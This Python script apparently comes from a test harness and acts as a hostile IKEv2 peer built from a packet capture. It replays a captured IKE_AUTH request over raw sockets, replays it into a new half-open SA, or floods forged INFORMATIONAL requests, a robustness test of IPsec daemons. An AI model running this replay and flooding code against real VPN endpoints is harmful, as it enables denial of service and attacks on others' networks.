#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""ike-hostile.py MODE PCAP DESTINATION [options]: a hostile IKE peer built from a capture (an
Ethernet pcap of a real IKEv2 handshake towards DESTINATION, UDP 500 or 4500 with the non-ESP
marker). Run it in the namespace of the peer whose handshake was captured.

The IKE_AUTH request used is the capture's last one.
  replay        sends COUNT copies of the captured IKE_AUTH request, unchanged, from source
                port --sport (raw socket: the port may be the one the peer's daemon holds).
  halfopen      opens a new IKE SA with a copy of the captured IKE_SA_INIT request (fresh
                initiator SPI, from an ephemeral port), then sends the captured IKE_AUTH request
                COUNT times with the new SA's SPIs: an old IKE_AUTH replayed into a new half-open
                IKE SA.
  informational sends COUNT INFORMATIONAL requests with the SPIs of the captured IKE SA and SK
                payloads of random octets (message IDs 1..8), to port --dport, spread over
                --duration seconds.
Prints what it sent."""
import argparse
import os
import socket
import struct
import time

IKE_SA_INIT, IKE_AUTH, INFORMATIONAL = 34, 35, 37

parser = argparse.ArgumentParser()
parser.add_argument("mode", choices=["replay", "halfopen", "informational"])
parser.add_argument("pcap")
parser.add_argument("destination")
parser.add_argument("--count", type=int, default=1)
parser.add_argument("--sport", type=int, default=4500)
parser.add_argument("--dport", type=int, default=4500)
parser.add_argument("--duration", type=float, default=0, help="spread the datagrams over this many seconds")
args = parser.parse_args()


def ike_messages(path):
    """(source address, destination port, IKE message) of each IKE datagram in the capture."""
    with open(path, "rb") as f:
        data = f.read()
    endian = "<" if struct.unpack("<I", data[:4])[0] in (0xA1B2C3D4, 0xA1B23C4D) else ">"
    offset = 24
    while offset + 16 <= len(data):
        included = struct.unpack(endian + "I", data[offset + 8:offset + 12])[0]
        packet = data[offset + 16 + 14:offset + 16 + included]
        offset += 16 + included
        if len(packet) < 28 or packet[9] != 17:
            continue
        ihl = (packet[0] & 0x0F) * 4
        dport = struct.unpack("!H", packet[ihl + 2:ihl + 4])[0]
        payload = packet[ihl + 8:]
        if dport == 4500 or struct.unpack("!H", packet[ihl:ihl + 2])[0] == 4500:
            if payload[:4] != b"\0\0\0\0":
                continue  # ESP
            payload = payload[4:]
        if len(payload) >= 28:
            yield packet[12:16], dport, bytes(payload)


def is_request(message, exchange):
    return message[18] == exchange and not message[19] & 0x20


messages = list(ike_messages(args.pcap))
# The last one: the capture may hold earlier handshakes.
auths = [(src, port, m) for src, port, m in messages if is_request(m, IKE_AUTH)]
auth = auths[-1] if auths else None
if auth is None:
    raise SystemExit(f"{args.pcap}: no IKE_AUTH request")
source, auth_port, auth_request = auth
marker = lambda port: b"\0\0\0\0" if port == 4500 else b""


def raw_send(payload, sport, dport, count):
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    destination = socket.inet_aton(args.destination)
    udp = 8 + len(payload)
    for i in range(count):
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp, i & 0xFFFF, 0, 64, 17, 0, source, destination)
        sock.sendto(ip + struct.pack("!HHHH", sport, dport, udp, 0) + payload, (args.destination, 0))


start = time.monotonic()
if args.mode == "replay":
    raw_send(marker(auth_port) + auth_request, args.sport, auth_port, args.count)
    print(f"replayed the IKE_AUTH request (SPIs {auth_request[:8].hex()}/{auth_request[8:16].hex()}, "
          f"{len(auth_request)} octets) {args.count} times from port {args.sport} to port {auth_port}")
elif args.mode == "halfopen":
    spi_i = auth_request[:8]
    # The last one: an IKE_SA_INIT answered with INVALID_KE_PAYLOAD or COOKIE came again.
    inits = [m for _, _, m in messages if is_request(m, IKE_SA_INIT) and m[:8] == spi_i]
    init = inits[-1] if inits else None
    if init is None:
        raise SystemExit(f"{args.pcap}: no IKE_SA_INIT request of the IKE_AUTH's IKE SA")
    new_spi = os.urandom(8)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(10)
    sock.sendto(new_spi + init[8:], (args.destination, 500))
    answer, _ = sock.recvfrom(65535)
    if answer[:8] != new_spi or answer[18] != IKE_SA_INIT or answer[8:16] == b"\0" * 8:
        raise SystemExit(f"no IKE_SA_INIT response for the new IKE SA: {answer[:40].hex()}")
    replay = new_spi + answer[8:16] + auth_request[16:]
    for _ in range(args.count):
        sock.sendto(replay, (args.destination, 500))
    print(f"new half-open IKE SA {new_spi.hex()}/{answer[8:16].hex()}; the old IKE_AUTH request sent "
          f"{args.count} times into it")
else:
    spis = auth_request[:16]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    prefix = marker(args.dport)
    sent = 0
    for i in range(args.count):
        if args.duration and i % 500 == 0:  # paced: a flood that lasts, not one burst
            ahead = start + args.duration * i / args.count - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
        garbage = os.urandom(16 + i % 64)
        # RFC 7296 §3.1 header (the initiator's request), then an SK payload of noise.
        header = spis + struct.pack("!BBBBII", 46, 0x20, INFORMATIONAL, 0x08, 1 + i % 8, 28 + 4 + len(garbage))
        try:
            sock.sendto(prefix + header + struct.pack("!BBH", 0, 0, 4 + len(garbage)) + garbage,
                        (args.destination, args.dport))
            sent += 1
        except OSError:
            pass
    print(f"sent {sent} forged INFORMATIONAL requests on IKE SA {spis[:8].hex()}/{spis[8:].hex()} "
          f"to port {args.dport}")
print(f"in {time.monotonic() - start:.2f} s")
